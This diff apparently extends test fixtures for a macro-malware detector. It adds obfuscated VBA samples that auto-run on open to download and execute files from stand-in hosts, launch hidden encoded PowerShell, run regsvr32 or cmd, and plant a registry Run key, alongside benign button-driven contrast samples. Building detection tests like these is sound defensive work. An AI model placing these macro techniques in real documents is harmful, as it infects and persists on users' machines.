@@ -203,6 +203,52 @@ Sub nobody_calls_this()
     thread 0, 0, 0, 0, 0, 0
 End Sub
 ''',
+    # --- what evaluation finds
+    'effect-download-run': '''
+Private Declare PtrSafe Function fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As Long) As Long
+Sub AutoOpen()
+    place = Environ("TEMP") & "\\inert." & StrReverse("exe")
+    fetch 0, Replace("http:QZ//example.QZinvalid/inert", "QZ", ""), place, 0, 0
+    Shell place, 0
+End Sub
+''',
+    'effect-download-loader': '''
+Sub AutoOpen()
+    Set h = CreateObject("MSXML2.XMLHTTP")
+    h.Open "GET", "{url}", False
+    h.Send
+    Set o = CreateObject("ADODB.Stream")
+    o.Open
+    o.Type = 1
+    o.Write h.responseBody
+    o.SaveToFile Environ("TEMP") & "\\inert.txt", 2
+    CreateObject("WScript.Shell").Run "reg" & "svr32 /s %TEMP%\\inert.txt", 0
+End Sub
+''',
+    'effect-write-run': '''
+Sub AutoOpen()
+    Open Environ("TEMP") & "\\inert.vbs" For Output As #1
+    Print #1, "' inert sample"
+    Close #1
+    Shell Chr(119) & "script " & Environ("TEMP") & "\\inert.vbs", 0
+End Sub
+''',
+    'effect-run-interpreter': '''
+Sub AutoOpen()
+    c = Join(Split("cQZmQZd /QZc {gone}", "QZ"), "")
+    CreateObject("WScript.Shell").Run c, 0
+End Sub
+''',
+    'effect-run-powershell': '''
+Private Sub CommandButton1_Click()
+    Shell StrReverse("neddih w- llehsrewop") & " -e" & "nc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABpAG4AZQByAHQA", 0
+End Sub
+''',
+    'effect-persist': '''
+Private Sub CommandButton1_Click()
+    CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\" & StrReverse("nuR") & "\\inert", "{gone}"
+End Sub
+''',
     # --- what does not start by itself, or does not show what it calls
     'button-filled-form': '''
 Private Sub CommandButton1_Click()
@@ -340,6 +386,38 @@ Private Sub Label2_Click()
 End Sub
 Sub AutoOpen()
     UserForm1.Show
+End Sub
+''',
+    'button-fetches-rates': '''
+Private Sub CommandButton1_Click()
+    Dim h As Object, s As Object
+    Set h = CreateObject("MSXML2.XMLHTTP")
+    h.Open "GET", "https://rates.example/2026-11.csv", False
+    h.Send
+    Set s = CreateObject("ADODB.Stream")
+    s.Open
+    s.Type = 1
+    s.Write h.responseBody
+    s.SaveToFile ThisWorkbook.Path & "\\為替.csv", 2
+    Shell "explorer.exe """ & ThisWorkbook.Path & """", vbNormalFocus
+End Sub
+''',
+    'button-writes-batch': '''
+Private Sub CommandButton1_Click()
+    Open ThisWorkbook.Path & "\\写し.bat" For Output As #1
+    Print #1, "copy *.csv backup"
+    Close #1
+    Shell """" & ThisWorkbook.Path & "\\写し.bat""", vbNormalFocus
+End Sub
+''',
+    'button-powershell-report': '''
+Private Sub CommandButton1_Click()
+    Shell "powershell -ExecutionPolicy RemoteSigned -File C:\\tools\\report.ps1", vbNormalFocus
+End Sub
+''',
+    'button-keeps-width': '''
+Private Sub CommandButton1_Click()
+    CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Example\\Width", ActiveWindow.Width
 End Sub
 ''',
     'generated-table': '''
